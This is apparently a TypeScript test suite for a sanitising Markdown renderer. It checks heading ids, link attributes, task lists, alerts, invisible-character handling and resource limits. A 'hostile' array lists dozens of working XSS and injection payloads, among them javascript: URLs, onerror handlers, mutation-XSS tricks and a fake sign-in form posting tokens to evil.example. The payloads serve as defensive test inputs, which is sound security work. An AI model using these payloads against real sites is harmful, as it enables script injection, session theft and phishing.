import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseHtml, elementsIn, type HtmlElement } from '../../../test/support/html-document.ts';
import { MAX_NESTING, MAX_TOKENS } from './limited-parser.ts';
import { MAX_HTML_CHARACTERS, MAX_MARKDOWN_CHARACTERS, renderMarkdown, renderMarkdownOf } from './render-markdown.ts';

const targets = { link: (target: string) => `/packages/A/1.0.0/file?path=${encodeURIComponent(target)}` };
const render = (text: string) => renderMarkdown(text, targets).trim();

describe('renderMarkdown', () => {
  const cases: [name: string, text: string, html: string][] = [
    [
      'demotes headings and prefixes their ids',
      '# A *b* `c`!',
      '<h2 id="user-content-a-b-c">A <em>b</em> <code>c</code>!</h2>',
    ],
    ['demotes no further than h6', '###### x', '<h6 id="user-content-x">x</h6>'],
    ['counts ids that repeat', '## x\n## x', '<h3 id="user-content-x">x</h3>\n<h3 id="user-content-x-1">x</h3>'],
    ['keeps ids of other scripts', '## Größe 日本', '<h3 id="user-content-größe-日本">Größe 日本</h3>'],
    ['links within the text', '[x](#usage)', '<p><a href="#user-content-usage">x</a></p>'],
    [
      'marks links of strangers',
      '[x](https://a.example/)',
      '<p><a href="https://a.example/" rel="noopener noreferrer nofollow ugc">x</a></p>',
    ],
    [
      'links bare URLs',
      'see http://a.example.',
      '<p>see <a href="http://a.example" rel="noopener noreferrer nofollow ugc">http://a.example</a>.</p>',
    ],
    ['strikes through', '~~x~~', '<p><s>x</s></p>'],
    ['numbers lists from where they begin', '3. x', '<ol start="3">\n<li>x</li>\n</ol>'],
    [
      'keeps what looks like a tag and is none',
      'a List<string> of Task<Foo>',
      '<p>a List&lt;string&gt; of Task&lt;Foo&gt;</p>',
    ],
    ['keeps XML of others', '<PackageReference Include="A" />', '<p>&lt;PackageReference Include="A" /&gt;</p>'],
    ['leaves comments out', 'a<!-- b -->c', '<p>ac</p>'],
    ['leaves tags out and keeps words', '<p align="center"><b>Words</b></p>', '<p>Words</p>'],
    [
      'draws tasks',
      '- [ ] a\n- [x] b',
      '<ul>\n<li><span class="markdown-task" role="img" aria-label="To do:">☐</span> a</li>\n<li><span class="markdown-task" role="img" aria-label="Done:">☑</span> b</li>\n</ul>',
    ],
    [
      'makes alerts',
      '> [!NOTE]\n> a',
      '<div class="markdown-alert markdown-alert-note"><p class="markdown-alert-title">Note</p>\n<p>a</p>\n</div>',
    ],
    ['makes no alert of another word', '> [!EVIL]\n> a', '<blockquote>\n<p>[!EVIL]\na</p>\n</blockquote>'],
    [
      'colours code of a named language',
      '```csharp\nvar x = 1;\n```',
      '<pre class="code-block" tabindex="0"><code><span class="code-keyword">var</span> x = <span class="code-number">1</span>;\n</code></pre>',
    ],
    [
      'guesses no language',
      '```\nvar x = 1;\n```',
      '<pre class="code-block" tabindex="0"><code>var x = 1;\n</code></pre>',
    ],
    [
      'shows an image of elsewhere as a link',
      '![x](http://tracker.example/p.gif)',
      '<p><a href="http://tracker.example/p.gif" rel="noopener noreferrer nofollow ugc">x (image at tracker.example)</a></p>',
    ],
    [
      'shows words for an image in a link',
      '[![x](http://t.example/p)](https://a.example)',
      '<p><a href="https://a.example" rel="noopener noreferrer nofollow ugc">x</a></p>',
    ],
    ['writes addresses of mail as text', '<a@b.example> [x](mailto:a@b.example)', '<p>a@b.example x</p>'],
    [
      'aligns cells by class',
      '|a|\n|-:|\n|b|',
      '<div class="markdown-scroll" tabindex="0"><table>\n<thead>\n<tr>\n<th class="markdown-right">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td class="markdown-right">b</td>\n</tr>\n</tbody>\n</table></div>',
    ],
    [
      'shows in code what cannot be seen',
      '`a\u202eb\u200bc`',
      '<p><code>a<span class="code-hidden">U+202E</span>b<span class="code-hidden">U+200B</span>c</code></p>',
    ],
    ['drops from prose what cannot be seen', 'a\u202eb\u200bc\u{e0041}d', '<p>abcd</p>'],
    ['keeps the joiners of emoji', '👩\u200d💻', '<p>👩\u200d💻</p>'],
  ];
  for (const [name, text, html] of cases) it(name, () => assert.equal(render(text), html));

  it('marks no link of our own texts', () => {
    assert.equal(
      renderMarkdown('[x](https://a.example/)', { isOwn: true }).trim(),
      '<p><a href="https://a.example/">x</a></p>',
    );
  });
});

/** Each of them has been a hole in some renderer, or is what its filter was made for. */
const hostile = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](<data:text/html,<script>alert(1)</script>>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](ftp://a.example)',
  '[x](view-source:javascript:alert(1))',
  '[x](feed:javascript:alert(1))',
  '[x](https://user:password@a.example)',
  '[x](//evil.example/a)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: javascript:alert(1)\n[r]: https://a.example\n\n[x][r]',
  '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](<https://a.example/><img src=x onerror=alert(1)>)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://a.example/x.png)',
  '![x](https://a.example/x.png" onerror="alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](//evil.example/x.png)',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" srcset="https://evil.example/x 1x">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<form action=https://evil.example><input name=token><button>Sign in</button></form>',
  '<a id=x name=y href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '</div></main></body><h1>Signed out</h1>',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```constructor\nx\n```',
  '```__proto__\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '# x" onclick="alert(1)',
  '# main',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>x</script>|',
  '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  '> [!CONSTRUCTOR]\n> x',
  '- [x] <img src=x onerror=alert(1)>',
  '<user@example.com"onmouseover=alert(1)>',
  'https://a.example/<img src=x onerror=alert(1)>',
  'http://a.example/"onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<img src=x onerror=alert(1)>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '\ud800<img src=x onerror=alert(1)>\udfff',
];

const allowedTags = new Set(
  'h2 h3 h4 h5 h6 p a img ul ol li blockquote pre hr div table thead tbody tr th td code em strong s br span'.split(
    ' ',
  ),
);
const allowedAttributes = new Set([
  'href',
  'rel',
  'src',
  'alt',
  'loading',
  'class',
  'id',
  'tabindex',
  'start',
  'role',
  'aria-label',
]);

function harmIn(element: HtmlElement): string[] {
  const attributes = element.attrs.flatMap(({ name, value }) => {
    if (!allowedAttributes.has(name)) return [`attribute ${name}`];
    if (name === 'href' && !/^(?:https?:\/\/(?![^/]*@)|#user-content-|\/packages\/A\/1\.0\.0\/file\?path=)/.test(value))
      return [`link to ${value}`];
    if (name === 'src') return [`loads ${value}`];
    if (name === 'id' && !value.startsWith('user-content-')) return [`id ${value}`];
    return [];
  });
  return allowedTags.has(element.tagName) ? attributes : [`element ${element.tagName}`, ...attributes];
}

describe('a hostile text', () => {
  assert.ok(hostile.length >= 80);
  for (const text of hostile) {
    it(`is harmless: ${JSON.stringify(text).slice(0, 80)}`, () => {
      const root = parseHtml(`<!doctype html><body><main>${renderMarkdown(text, targets)}</main>`);
      const inMain = elementsIn(root).filter(({ tagName }) => !['html', 'head', 'body', 'main'].includes(tagName));
      assert.deepEqual(inMain.flatMap(harmIn), []);
      assert.equal(elementsIn(root).filter(({ tagName }) => tagName === 'main').length, 1);
    });
  }
});

describe('a text that asks for much', () => {
  const many = (piece: string, characters = MAX_MARKDOWN_CHARACTERS) =>
    piece.repeat(Math.ceil(characters / piece.length));
  const bombs: [name: string, text: string][] = [
    ['quotes a thousand deep', `${'>'.repeat(1_000)} x`],
    ['lists a thousand deep', Array.from({ length: 1_000 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n')],
    ['brackets', many('[')],
    ['images in images', many('![')],
    ['links in links', `${'['.repeat(50_000)}x${'](y)'.repeat(50_000)}`],
    ['marks of emphasis', many('*a **b ')],
    ['marks alone', many('*_')],
    ['rows of a table', `|a|b|\n|-|-|\n${many('|x|y|\n')}`],
    ['columns of a table', `${many('|a', 40_000)}\n${many('|-', 40_000)}\n${many('|b', 40_000)}`],
    ['one line', many('word ', 1_000_000)],
    ['references', `[a]: /u\n\n${many('[a] ')}`],
    ['URLs', many('http://a.example/ ')],
    ['backticks of all lengths', Array.from({ length: 500 }, (_, at) => `e${'`'.repeat(at)}`).join('')],
    ['tags', many('<b>')],
    ['ampersands', many('&')],
    ['fences', many('```\n')],
    ['headings', many('# a\n')],
  ];
  for (const [name, text] of bombs) {
    it(`gets a bounded answer: ${name}`, () => {
      const { html, isPlain, isCut } = renderMarkdownOf(text);
      assert.ok(html.length <= MAX_HTML_CHARACTERS, `${html.length} characters`);
      const elements = elementsIn(parseHtml(html));
      assert.ok(elements.length <= MAX_TOKENS, `${elements.length} elements`);
      assert.equal(isCut, text.length > MAX_MARKDOWN_CHARACTERS);
      if (isPlain) assert.match(html, /^<pre class="code-block" tabindex="0"><code>/);
    });
  }

  it('is nested only so deep', () => {
    const html = renderMarkdown(`${'>'.repeat(1_000)} x`);
    assert.ok((html.match(/<blockquote>/g) ?? []).length <= MAX_NESTING);
  });

  it('is shown as it is written beyond the budget, escaped', () => {
    const { html, isPlain } = renderMarkdownOf(`a <script>${many('*_')}`);
    assert.equal(isPlain, true);
    assert.ok(html.includes('a &lt;script&gt;*_'));
  });

  it('is cut between paragraphs', () => {
    const { html, isCut } = renderMarkdownOf(many('A paragraph of some words.\n\n', 2 * MAX_MARKDOWN_CHARACTERS));
    assert.equal(isCut, true);
    assert.match(html, /A paragraph of some words\.<\/p>\n$/);
  });
});
